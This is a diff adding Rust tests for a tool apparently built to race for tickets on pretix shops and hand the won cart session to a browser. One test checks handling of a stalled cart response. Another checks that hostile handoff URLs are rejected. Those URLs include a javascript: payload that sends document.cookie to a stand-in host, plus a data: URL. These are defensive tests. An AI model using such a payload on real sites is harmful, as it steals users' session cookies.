@@ -1,0 +1,52 @@
+//! What an adversarial try of the guarantees found, each kept as a test from the hostile side: a
+//! cart POST whose answer stalls after its headers, a strategy that hands the session over on a
+//! site nobody named.
+
+use pretix_race::sim::{Fault, Scenario, SimListing};
+
+use crate::robust::{SECURE_FIRST, assert_cart_handed_over_at_exit};
+use crate::support::Race;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cart_posts_answer_that_stalls_after_its_headers_is_still_a_cart() {
+    // The won cart POST answers 302 to the checkout with its cookies, then its body stalls (and
+    // so does the checkout page): the redirect's headers are the outcome.
+    let mut s = Scenario {
+        listings_from_poll: 1,
+        listings: vec![SimListing::new("s7a11c4r7x", "Ticket – Type A", 19_000)],
+        ..Scenario::default()
+    };
+    s.faults.insert(1, Fault::CartAnswerStall);
+    let d = Race::new(s).args(["--stall-after", "2"]).run().await;
+    assert_eq!(d.code, 0, "{d:?}");
+    assert!(d.stdout.contains("=== TICKET IN CART ==="), "{d:?}");
+    assert_eq!(d.sim.cart_of(&d.handed_session()), ["Ticket – Type A"]);
+    assert_eq!(d.posts().len(), 1, "one cart POST, never sent again: {d:?}");
+    assert_eq!(d.logged("cookies.txt").len(), 1, "{d:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_strategy_cannot_hand_the_session_over_on_another_site() {
+    for elsewhere in [
+        "https://127.0.0.1:1/rehearsal/checkout/questions/",
+        "javascript:fetch('https://evil.test/?'+document.cookie)//checkout/",
+        "data:text/html,<b>/checkout/questions/",
+    ] {
+        let d = Race::named("instant")
+            .script(&format!(
+                "{SECURE_FIRST}race.session:handoff({elsewhere:?}, {{ headless = true }})\n"
+            ))
+            .run()
+            .await;
+        assert_eq!(d.code, 3, "{elsewhere}: {d:?}");
+        assert!(
+            d.stderr.contains("is not a page of a shop being watched"),
+            "{elsewhere}: {d:?}"
+        );
+        assert!(!d.stdout.contains("127.0.0.1:1/"), "{elsewhere}: {d:?}");
+        assert!(!d.stdout.contains("javascript:"), "{elsewhere}: {d:?}");
+        assert!(!d.stdout.contains("data:"), "{elsewhere}: {d:?}");
+        // The real cart is handed over as the run ends, on its own shop.
+        assert_cart_handed_over_at_exit(&d);
+    }
+}
